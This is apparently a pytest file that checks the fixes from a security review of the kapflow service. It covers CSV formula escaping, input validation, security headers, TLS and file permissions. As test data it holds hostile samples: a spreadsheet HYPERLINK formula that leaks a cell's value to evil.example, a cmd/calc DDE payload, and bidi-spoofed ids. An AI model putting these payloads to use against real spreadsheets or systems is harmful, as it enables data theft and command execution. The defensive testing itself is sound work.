"""Issue 18, the security review of 2026-12-07: each finding reproduced, then shown fixed.

1. CSV exports hand no formula to a spreadsheet. 2. Extreme times in query parameters are
422s, and an unexpected error logs its class, no traceback. 3. Ids with control, bidi or
zero-width characters are rejected. 4. An unknown type names the nearest known one.
5. /metrics labels are bounded. 6. Security headers. 7. TLS. 8. Owner-only files.
9. Retries (tenacity): the relay's back-off ends at once on shutdown.
"""

from __future__ import annotations

import asyncio
import base64
import csv
import datetime as dt
import hashlib
import io
import ipaddress
import json
import logging
import os
import re
import signal
import ssl
import stat
import subprocess
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest
from builders import Journey
from conftest import FIXED_NOW
from serve_harness import KAPFLOW, free_port

from events import EVENT_MODELS, parse_event
from events.envelope import RECORDED
from events.registry import Rejection
from kapflow.entrypoints.http import reads
from kapflow.entrypoints.http.context import HttpSettings
from kapflow.entrypoints.http.server import ServiceThread
from kapflow.publishers.kafka import KafkaOutboxRelay
from kapflow.service.access import ROLES, KeyRing, create_key
from kapflow.service.audit import export_decisions, iter_rejections, write_access_log
from kapflow.service.csv_cells import csv_cell
from kapflow.service.deviations import recorded_deviations, write_deviations
from kapflow.service.ingest import IngestService
from kapflow.settings import KafkaSettings
from kapflow.store import StoreError, open_store
from kapflow.store.access_log import AccessRecord, open_access_log
from kapflow.store.backup import backup_sqlite

# --- 1. CSV exports: no formula reaches a spreadsheet ------------------------------------

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"open")'
DDE = "=cmd|'/c%20calc'!A0"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# A trigger right after a separator (a cell of its own in a spreadsheet that splits on `;`
# or TAB) and not after the `'` that escapes it.
INNER_FORMULA = re.compile(r"[,;\t\r\n\"|] *[=+\-@]")


def assert_no_formula(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows:
        for cell in row:
            assert not cell.startswith(TRIGGERS), cell
            assert not INNER_FORMULA.search(cell), cell
    return rows


def test_a_formula_cell_gets_a_leading_quote_and_keeps_its_text() -> None:
    assert csv_cell(HYPERLINK) == "'" + HYPERLINK
    assert csv_cell("@SUM(A1)") == "'@SUM(A1)"
    assert csv_cell("+1") == "'+1" and csv_cell("-1") == "'-1"
    assert csv_cell("\tx") == "'\tx" and csv_cell("\rx") == "'\rx"
    assert csv_cell("＝1+1") == "'＝1+1"  # full-width: some spreadsheets read it as `=`
    # After a separator a spreadsheet may split on, a trigger starts a cell of its own.
    assert csv_cell("a;=1+1") == "a;'=1+1"
    assert csv_cell("a,  @SUM(A1)") == "a,  '@SUM(A1)"
    assert csv_cell("\t=1") == "'\t'=1"  # TAB leads, and separates
    # What kapflow writes every day passes unchanged.
    for value in ("c-000123", "2026-03-01T09:00:00Z", "urn:qmts:scheduling", "R7;R8", 42):
        assert csv_cell(value) == value
    assert csv_cell(None) == ""


def test_a_decision_export_in_csv_gives_a_spreadsheet_text_never_a_formula(
    sqlite_url: str,
) -> None:
    store = open_store(sqlite_url)
    service = IngestService(store, clock=lambda: FIXED_NOW)
    j = Journey("c-csv-1")
    inquiry = j.inquiry()
    inquiry["id"], inquiry["source"] = HYPERLINK, DDE
    unknown = {**j.inquiry(), "id": "@SUM(1+1)*cmd|'/C calc'!A0", "type": "nope.unknown"}
    service.ingest_batch([inquiry, unknown])
    out = io.StringIO()
    count = export_decisions(store.iter_history(), iter_rejections(store), out, "csv")
    assert (count.history, count.rejections) == (1, 1)
    rows = assert_no_formula(out.getvalue())
    header, history, rejection = rows
    assert history[header.index("event_id")] == "'" + HYPERLINK  # the text is all there
    assert history[header.index("source")] == "'" + DDE
    assert rejection[header.index("event_id")] == "'@SUM(1+1)*cmd|'/C calc'!A0"
    store.close()


def test_the_deviation_report_and_the_access_log_in_csv_escape_formulas_too(
    sqlite_url: str,
) -> None:
    store = open_store(sqlite_url)
    service = IngestService(store, clock=lambda: FIXED_NOW)
    j = Journey("c-csv-2")
    booked = [*j.to_prepared(), j.booking("dosing", "d-1")]
    unaccompanied = j.dosing_started("s-1", chaperone=False)  # R7: a deviation
    unaccompanied["id"] = HYPERLINK
    outcomes = service.ingest_batch([*booked, unaccompanied])
    assert outcomes[-1].outcome == "deviation"
    report = io.StringIO()
    assert write_deviations(recorded_deviations(store), report, "csv") == 1
    assert "'" + HYPERLINK in assert_no_formula(report.getvalue())[1]
    log = open_access_log(sqlite_url)
    log.record(AccessRecord("2026-12-07T10:00:00Z", DDE, "auditor", "history", "c-csv-2"))
    reads_csv = io.StringIO()
    write_access_log(log.entries(), reads_csv, "csv")
    assert "'" + DDE in assert_no_formula(reads_csv.getvalue())[1]
    log.close()
    store.close()


# --- the HTTP service shared by items 2, 5 and 6 --------------------------------------------


@dataclass
class Service:
    url: str
    secrets: dict[str, str]

    def client(self, role: str = "admin") -> httpx.Client:
        return httpx.Client(
            base_url=self.url,
            headers={"Authorization": f"Bearer {self.secrets[role]}"},
            timeout=30,
        )


@pytest.fixture(scope="module")
def service(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Service]:
    made = {
        role: create_key(role, f"{role}-key", ["scheduling"] if role == "publisher" else [])
        for role in ROLES
    }
    settings = HttpSettings(
        db=f"sqlite:///{tmp_path_factory.mktemp('hardening') / 'kapflow.db'}",
        keys=KeyRing(new.key for new in made.values()),
        poll_interval=0.2,
        keepalive=1.0,
    )
    server = ServiceThread(settings).start()
    service = Service(server.url, {role: new.secret for role, new in made.items()})
    with service.client() as admin:
        j = Journey("c-hard-1")
        assert admin.post("/v1/events", json=j.to_prepared()).status_code == 200
    yield service
    server.stop()


@pytest.fixture(scope="module")
def admin(service: Service) -> Iterator[httpx.Client]:
    with service.client("admin") as client:
        yield client


# --- 2. extreme times: 422, never 500 ------------------------------------------------------

TIME_PARAMETERS = [
    ("/v1/clients/c-hard-1/replay", "as_of"),
    ("/v1/clients/c-hard-1/replay", "known_at"),
    ("/v1/clients/c-hard-1/readiness", "at"),
    ("/v1/deviations", "from"),
    ("/v1/deviations", "to"),
    ("/v1/tasks", "now"),
    ("/v1/stats", "now"),
    ("/v1/deadlines", "now"),
    ("/v1/access-log", "from"),
    ("/v1/access-log", "to"),
]


@pytest.mark.parametrize(("path", "name"), TIME_PARAMETERS)
@pytest.mark.parametrize(
    ("value", "problem"),
    [
        ("9999-12-31T23:59:59-14:00", "out_of_range"),  # the year 10000 in UTC
        ("0001-01-01T00:00:00+14:00", "out_of_range"),  # the year 0 in UTC
        ("yesterday", "not_a_time"),
        ("2026-03-01T09:00:00", "no_timezone"),
    ],
)
def test_a_time_parameter_that_is_no_utc_time_is_a_422_naming_it(
    admin: httpx.Client, path: str, name: str, value: str, problem: str
) -> None:
    response = admin.get(path, params={name: value})
    assert response.status_code == 422, response.text
    body = response.json()
    assert (body["error"], body["field"], body["problem"]) == ("invalid_parameter", name, problem)
    assert value not in response.text  # the value is never echoed


@pytest.mark.parametrize(("path", "name"), TIME_PARAMETERS)
@pytest.mark.parametrize("value", ["9999-12-31T23:59:59.999999Z", "0001-01-01T00:00:00Z"])
def test_the_first_and_last_utc_times_are_answered(
    admin: httpx.Client, path: str, name: str, value: str
) -> None:
    assert admin.get(path, params={name: value}).status_code == 200


def test_a_time_longer_than_any_rfc_3339_time_is_refused_unread(admin: httpx.Client) -> None:
    response = admin.get("/v1/tasks", params={"now": "2026-03-01T09:00:00Z" + "0" * 10_000})
    assert response.status_code == 422
    assert response.json()["error"] == "invalid_parameter"


def test_an_unexpected_error_is_logged_by_its_class_without_a_traceback(
    admin: httpx.Client, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    def broken(*_: Any) -> Any:
        raise ValueError("client c-secret-42 at 2026-03-01")  # a message quoting values

    monkeypatch.setattr(reads, "compute_stats", broken)
    with caplog.at_level(logging.INFO):
        response = admin.get("/v1/stats")
        assert response.status_code == 500
        assert response.json()["error"] == "internal_error"
        assert admin.get("/healthz").status_code == 200  # the connection was not dropped
    assert "internal error on GET /v1/stats: ValueError" in caplog.text
    assert "c-secret-42" not in caplog.text
    assert not [record for record in caplog.records if record.exc_info]


# --- 3. and 4. the events contracts ---------------------------------------------------------

UNSAFE = {
    "ESC": "\x1b",
    "record separator": "\x1e",
    "DEL": "\x7f",
    "NEL": "\x85",
    "right-to-left override": "\u202e",
    "left-to-right isolate": "\u2066",
    "pop directional isolate": "\u2069",
    "zero-width space": "\u200b",
    "zero-width joiner": "\u200d",
    "byte order mark": "\ufeff",
    "line separator": "\u2028",
    "soft hyphen": "\u00ad",
}


def _set(event: dict[str, Any], field: str, value: str) -> dict[str, Any]:
    if field.startswith("data."):
        event["data"][field.removeprefix("data.")] = value
    else:
        event[field] = value
    return event


def _unsafe_event(field: str, char: str) -> dict[str, Any]:
    j = Journey("c-unsafe")
    event = {
        "data.appointment_id": j.booking("assessment", "a-1"),
        "data.clinician_id": j.preparation(1),
        "data.session_id": j.dosing_started("s-1"),
        "data.task_id": j.deadline("t-1"),
    }.get(field, j.booking("assessment", "a-1"))
    return _set(event, field, f"a{char}b")


@pytest.mark.parametrize("char", UNSAFE.values(), ids=UNSAFE.keys())
@pytest.mark.parametrize(
    "field",
    [
        "id",
        "source",
        "subject",
        "dataschema",
        "data.appointment_id",
        "data.clinician_id",
        "data.session_id",
        "data.task_id",
    ],
)
def test_an_id_with_a_control_bidi_or_zero_width_character_is_rejected_naming_the_field(
    field: str, char: str
) -> None:
    rejection = parse_event(json.dumps(_unsafe_event(field, char)))
    assert isinstance(rejection, Rejection)
    assert [(r.code, r.field) for r in rejection.reasons] == [("UNSAFE_CHARACTERS", field)]
    assert char not in rejection.reasons[0].message
    # What identifies the rejection is kept only when it is safe to show.
    kept = [rejection.id, rejection.source, rejection.subject]
    assert not any(value and char in value for value in kept)


@pytest.mark.parametrize(
    "backend", ["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)]
)
def test_an_unsafe_id_gets_the_same_outcome_on_sqlite_and_postgresql(
    backend: str, request: pytest.FixtureRequest
) -> None:
    store = open_store(request.getfixturevalue(f"{backend}_url"))
    service = IngestService(store, clock=lambda: FIXED_NOW)
    j = Journey("c-same-1")
    events = [
        _set(j.inquiry(), "id", "ev-\x1b[31m-red"),
        _set(j.inquiry(), "id", "ev-\u202etxt.exe"),
        _set(j.inquiry(), "source", "urn:qmts:\u200bscheduling"),
        j.inquiry(),
    ]
    outcomes = [(r.outcome, [x.code for x in r.reasons]) for r in service.ingest_batch(events)]
    assert outcomes == [("rejected", ["UNSAFE_CHARACTERS"])] * 3 + [("accepted", [])]
    recorded = store.rejections(limit=10)
    assert [json.loads(record.reasons)[0]["code"] for _, record in recorded] == [
        "UNSAFE_CHARACTERS"
    ] * 3
    # The unsafe value is not kept where people read it (logs, screens, exports).
    kept = [(record.source, record.event_id) for _, record in recorded]
    assert [source is None or event_id is None for source, event_id in kept] == [True] * 3
    assert all((value or "").isprintable() for pair in kept for value in pair)
    store.close()


def test_an_event_recorded_before_the_check_still_reads_back_as_recorded() -> None:
    # A release before this check accepted such ids: what it recorded must stay readable
    # (replay, verify, parked events), so reading back passes the RECORDED context.
    event = _set(Journey("c-old").inquiry(), "id", "ev-\u202eold")
    model = EVENT_MODELS[event["type"]]
    assert model.model_validate_json(json.dumps(event), context=RECORDED).id == event["id"]
    assert isinstance(parse_event(json.dumps(event)), Rejection)


def test_a_misspelt_event_type_is_rejected_naming_the_nearest_known_type() -> None:
    event = {**Journey("c-typo").inquiry(), "type": "scheduling.inquiry_recieved"}
    rejection = parse_event(json.dumps(event))
    assert isinstance(rejection, Rejection)
    [reason] = rejection.reasons
    assert (reason.code, reason.field) == ("UNKNOWN_TYPE", "type")
    assert reason.message == "unknown event type; did you mean scheduling.inquiry_received?"
    far = parse_event(json.dumps({**event, "type": "billing.invoice_paid"}))
    assert isinstance(far, Rejection) and far.reasons[0].message == "unknown event type"


# --- 5. /metrics: bounded labels ------------------------------------------------------------


def test_made_up_methods_and_raw_paths_never_become_metrics_labels(
    service: Service, admin: httpx.Client
) -> None:
    for method in ("FOOBAR", "BREW", "X" * 40):
        httpx.request(method, f"{service.url}/v1/tasks")
    admin.get("/v1/clients/c-secret-7")
    admin.get("/nowhere/c-secret-8")
    with service.client("dashboard") as dashboard:
        text = dashboard.get("/metrics").text
    labels = set(re.findall(r'method="([^"]*)"', text))
    assert "other" in labels and labels <= {"GET", "POST", "other"}
    assert 'route="/v1/clients/{client_id}"' in text and 'route="unmatched"' in text
    assert "c-secret" not in text


# --- 6. security headers --------------------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    [
        "/v1/tasks",
        "/v1/clients/c-hard-1",
        "/v1/export?format=csv",
        "/fhir/Task",
        "/dashboard",
        "/dashboard/clients/c-hard-1",
    ],
)
def test_clinical_data_is_never_cached_sniffed_or_referred_onwards(
    admin: httpx.Client, path: str
) -> None:
    response = admin.get(path)
    assert response.status_code == 200
    assert response.headers["Cache-Control"] == "no-store"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Referrer-Policy"] == "no-referrer"
    assert "Content-Security-Policy" in response.headers
    assert "Strict-Transport-Security" not in response.headers  # plain HTTP: meaningless


def test_a_json_answer_opened_in_a_browser_runs_nothing_and_cannot_be_framed(
    admin: httpx.Client,
) -> None:
    policy = admin.get("/v1/tasks").headers["Content-Security-Policy"]
    assert "default-src 'none'" in policy and "frame-ancestors 'none'" in policy
    # The dashboard keeps its own policy.
    assert "script-src 'self'" in admin.get("/dashboard").headers["Content-Security-Policy"]


def test_the_api_docs_allow_only_their_own_files_and_their_one_inline_script(
    service: Service,
) -> None:
    response = httpx.get(f"{service.url}/docs")
    policy = response.headers["Content-Security-Policy"]
    [script] = re.findall(r"<script>(.*?)</script>", response.text, re.DOTALL)
    digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
    assert f"script-src 'self' 'sha256-{digest}'" in policy
    assert "connect-src 'self'" in policy and "default-src 'none'" in policy
    assert "unsafe-inline" not in policy and "unsafe-eval" not in policy


@pytest.mark.browser
def test_the_api_docs_still_render_and_call_the_api_under_their_policy(
    service: Service,
) -> None:
    sync_api = pytest.importorskip("playwright.sync_api")
    if not os.access("/usr/bin/chromium", os.X_OK):
        pytest.skip("/usr/bin/chromium is missing (apt-get install chromium)")
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path="/usr/bin/chromium", headless=True, args=["--no-sandbox"]
        )
        page = browser.new_page()
        page.add_init_script(
            "window.__violations = [];"
            "document.addEventListener('securitypolicyviolation',"
            " e => window.__violations.push(e.violatedDirective + ' ' + e.blockedURI));"
        )
        page.goto(f"{service.url}/docs")
        page.wait_for_selector(".swagger-ui .info .title", timeout=20_000)
        assert "kapflow" in page.text_content(".swagger-ui .info .title")
        page.click("#operations-probes-healthz_healthz_get .opblock-summary")
        page.click("button.try-out__btn")
        page.click("button.execute")
        page.wait_for_selector(".live-responses-table .response-col_status", timeout=10_000)
        assert page.evaluate("window.__violations") == []
        browser.close()


# --- 7. TLS ---------------------------------------------------------------------------------


def _self_signed(folder: Path) -> tuple[Path, Path]:
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID

    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "127.0.0.1")])
    now = dt.datetime.now(dt.UTC)
    cert = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - dt.timedelta(minutes=5))
        .not_valid_after(now + dt.timedelta(days=1))
        .add_extension(
            x509.SubjectAlternativeName([x509.IPAddress(ipaddress.ip_address("127.0.0.1"))]),
            critical=False,
        )
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        .sign(key, hashes.SHA256())
    )
    cert_path, key_path = folder / "tls.crt", folder / "tls.key"
    cert_path.write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    key_path.write_bytes(
        key.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        )
    )
    key_path.chmod(0o600)
    return cert_path, key_path


def test_serve_with_a_certificate_answers_https_and_asks_browsers_to_keep_to_it(
    tmp_path: Path,
) -> None:
    cert, key = _self_signed(tmp_path)
    port = free_port()
    command = [KAPFLOW, "serve", "--insecure-dev", "--port", str(port)]
    command += ["--db", f"sqlite:///{tmp_path / 'kapflow.db'}"]
    command += ["--tls-cert", str(cert), "--tls-key", str(key)]
    log = tmp_path / "serve.log"
    process = subprocess.Popen(command, stderr=log.open("wb"), start_new_session=True)
    trusted = ssl.create_default_context(cafile=str(cert))
    try:
        deadline = time.monotonic() + 30
        while True:
            assert process.poll() is None, log.read_text()
            try:
                response = httpx.get(f"https://127.0.0.1:{port}/v1/tasks", verify=trusted)
                break
            except httpx.TransportError:
                assert time.monotonic() < deadline, log.read_text()
                time.sleep(0.1)
        assert response.status_code == 200
        assert response.headers["Strict-Transport-Security"] == "max-age=31536000"
        assert f"https://127.0.0.1:{port}" in log.read_text()
        with pytest.raises(httpx.TransportError):  # plain HTTP is not served on that port
            httpx.get(f"http://127.0.0.1:{port}/healthz", timeout=5)
    finally:
        process.send_signal(signal.SIGTERM)
        process.wait(20)


def _serve_fails(*options: str) -> str:
    result = subprocess.run(
        [KAPFLOW, "serve", "--insecure-dev", "--port", str(free_port()), *options],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert result.returncode == 2, result.stderr
    assert result.stderr.count("\n") == 1 and "Traceback" not in result.stderr
    return result.stderr


def test_serve_with_a_key_that_does_not_fit_its_certificate_stops_in_one_line(
    tmp_path: Path,
) -> None:
    cert, _ = _self_signed(tmp_path)
    (tmp_path / "other").mkdir()
    _, other_key = _self_signed(tmp_path / "other")
    db = f"sqlite:///{tmp_path / 'kapflow.db'}"
    mismatch = _serve_fails("--db", db, "--tls-cert", str(cert), "--tls-key", str(other_key))
    assert "cannot use --tls-cert" in mismatch
    missing = _serve_fails("--db", db, "--tls-cert", str(cert), "--tls-key", "nowhere.key")
    assert "No such file or directory" in missing
    assert "go together" in _serve_fails("--db", db, "--tls-cert", str(cert))


# --- 8. owner-only files --------------------------------------------------------------------


@pytest.fixture
def usual_umask() -> Iterator[None]:
    previous = os.umask(0o022)  # the usual default: new files readable by everyone
    yield
    os.umask(previous)


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_a_new_store_its_wal_and_shm_and_its_backups_are_for_the_owner_only(
    tmp_path: Path, usual_umask: None
) -> None:
    db = tmp_path / "kapflow.db"
    store = open_store(f"sqlite:///{db}")
    IngestService(store, clock=lambda: FIXED_NOW).ingest_batch([Journey("c-files").inquiry()])
    for path in (db, tmp_path / "kapflow.db-wal", tmp_path / "kapflow.db-shm"):
        assert path.exists() and _mode(path) == 0o600, path
    backup = backup_sqlite(f"sqlite:///{db}", str(tmp_path / "backup.db"))
    assert _mode(Path(backup.path)) == 0o600
    store.close()
    # The access log may be the first to open a database (`kapflow access-log`).
    open_access_log(f"sqlite:///{tmp_path / 'reads-first.db'}").close()
    assert _mode(tmp_path / "reads-first.db") == 0o600


def test_an_existing_database_keeps_the_mode_its_owner_gave_it(
    tmp_path: Path, usual_umask: None
) -> None:
    db = tmp_path / "kapflow.db"
    open_store(f"sqlite:///{db}").close()
    db.chmod(0o640)  # e.g. a backup group may read it
    open_store(f"sqlite:///{db}").close()
    assert _mode(db) == 0o640


# --- 9. retries: the relay's back-off ends at once on shutdown -------------------------------


class _AwayStore:
    """The database is away: every read of the outbox fails."""

    def unpublished(self, limit: int) -> Any:
        raise StoreError("lost the connection to the database")


class _Held:
    def acquire(self) -> bool:
        return True

    def release(self) -> None:
        pass


def test_the_outbox_relay_stops_at_once_even_in_the_middle_of_a_back_off(
    caplog: pytest.LogCaptureFixture,
) -> None:
    relay = KafkaOutboxRelay(
        _AwayStore(),  # type: ignore[arg-type]
        KafkaSettings(kafka="127.0.0.1:9092"),
        _Held(),
    )
    relay._producer = object()  # type: ignore[assignment]  # never reached: the store fails first

    async def scenario() -> float:
        stop = asyncio.Event()
        running = asyncio.create_task(relay.run(stop))
        while caplog.text.count("outbox relay paused") < 3:  # back-off now 2 s
            await asyncio.sleep(0.05)
        stopped = time.monotonic()
        stop.set()
        await asyncio.wait_for(running, 5)
        return time.monotonic() - stopped

    with caplog.at_level(logging.WARNING, logger="kapflow.relay"):
        assert asyncio.run(scenario()) < 0.5
    assert "outbox relay paused (StoreError); retry 1 in 0.5s" in caplog.text
    assert "retry 2 in 1.0s" in caplog.text and "resumed" not in caplog.text
